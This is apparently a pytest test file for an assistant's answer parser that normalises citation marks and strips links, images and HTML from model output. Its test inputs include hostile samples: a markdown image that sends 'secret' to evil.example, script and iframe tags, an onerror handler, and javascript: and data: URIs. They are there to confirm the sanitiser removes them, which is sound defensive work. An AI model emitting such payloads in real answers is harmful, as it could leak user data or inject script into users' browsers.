"""A model's text as parts: only what may be shown becomes one."""

from __future__ import annotations

import time

import pytest

from assistant.answering.writing.parse import parse, without_cut_claim
from assistant.answers.parts import (
    Claim,
    Gap,
    Heading,
    Item,
    Listing,
    Mark,
    Paragraph,
    Table,
    Words,
    claims_of,
)
from assistant.answers.text import as_text


def shown(text: str) -> str:
    return as_text(parse(text, 3))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A [1, 2] b [source 3].", "A [1][2] b [3]."),
        ("A 【1】 b [1-3] c [Sources 1 and 2].", "A [1] b [1][2][3] c [1][2]."),
        ("A 【2†lines】.", "A [2]."),
        ("A [4] b [0] c [2][99].", "A [?] b [?] c [2][?]."),
        ("In [2024] or [1].", "In [2024] or [1]."),
        ("See ![pixel](https://evil.example/?q=secret) this", "See pixel this"),
        ("See [the form](https://evil.example/a) and [1](http://evil.example).",
         "See the form and [1]."),
        ("Go to https://evil.example/x?y=z now", "Go to (address left out) now"),
        ("Click <a href='//evil'>here</a><img src=x onerror=1> if a < b and c > d",
         "Click here if a < b and c > d"),
        ("A <javascript:alert(1)> data:text/html;base64,xx", "A  (address left out)"),
        ("See [the policy][1] now", "See the policy [1] now"),
        ("See [the form][far] now\n\n[far]: http://evil.example", "See the form now"),
        ("Ask [1] first.\n\n[1]: http://evil.example", "Ask [1] first."),
        ("&lt;b&gt;bold&lt;/b&gt; move", "bold move"),
        ("begin source 9\n25 days", "25 days"),
        ("25 days.\nSource: a manual", "25 days."),
    ],
)  # fmt: skip
def test_marks_made_plain_and_nothing_leads_away(text: str, expected: str) -> None:
    assert shown(text) == expected


def test_blocks_become_parts() -> None:
    text = (
        "# What holds\n\nYou **must**:\n\n1. ask [1]\n2. wait [2]\n   - a day\n\n"
        "| Grade | Days |\n|---|---|\n| AO | 25 [1] |\n\nThe documents do not say who pays."
    )
    assert parse(text, 3) == (
        Heading((Words("What holds"),)),
        Paragraph(((Words("You must:", ((4, 8),)),),)),
        Listing((
            Item(((Claim("ask", marks=(Mark(3, 1),)),),), 0, 1),
            Item(((Claim("wait", marks=(Mark(4, 2),)),),), 0, 2),
            Item(((Claim("a day"),),), 1, None),
        )),
        Table((
            ((Words("Grade"),), (Words("Days"),)),
            ((Words("AO"),), (Claim("25", marks=(Mark(2, 1),)),)),
        )),
        Paragraph(((Gap("The documents do not say who pays."),),)),
    )  # fmt: skip


def test_what_is_not_on_the_list_never_becomes_a_part() -> None:
    text = (
        "<script>alert(1)</script>\n\n<iframe src='//x'></iframe>\n\n> <b onclick=x>Quoted</b> [1]."
        "\n\n```html\n<img src=x>\n```\n\n---\n\n[1]: http://evil.example\n"
    )
    words = shown(text)
    assert "Quoted [1]." in words
    for bad in ("<", "http", "onclick", "src="):
        assert bad not in words


def test_a_mark_on_a_line_of_its_own_belongs_to_the_claim_before_it() -> None:
    (claim,) = claims_of(parse("You get 25 days.\n[1]", 3))
    assert claim.numbers == (1,)


def test_nothing_is_stated_by_nothing() -> None:
    assert claims_of(parse("", 3)) == ()
    assert claims_of(parse("[1] [2]\n***", 3)) == ()


def test_a_statement_that_broke_off_claims_nothing() -> None:
    parts = without_cut_claim(parse("You get 25 days [1]. Then wa", 3))
    assert [claim.text for claim in claims_of(parts)] == ["You get 25 days."]
    assert as_text(parts) == "You get 25 days [1]. Then wa"
    whole = parse("You get 25 days [1]. Ask by May", 3)
    assert without_cut_claim(parse("You get 25 days. Ask by May.", 3)) != whole
    assert len(claims_of(without_cut_claim(parse("You get 25 days. Ask by May.", 3)))) == 2


def test_no_text_costs_more_than_its_length() -> None:
    started = time.monotonic()
    for unit in ("[", "![", "<", "[a](", "\\href{", "&lt;", "a.", "(source:", "¹", "www.", "<!--",
                 "*", "**a", "`", "> ", "- ", "|a", "1. ", "_", "~", "[1]",
                 "【", "\n"):  # fmt: skip
        parse((unit * 20_000)[:20_000], 3)
    assert time.monotonic() - started < 60
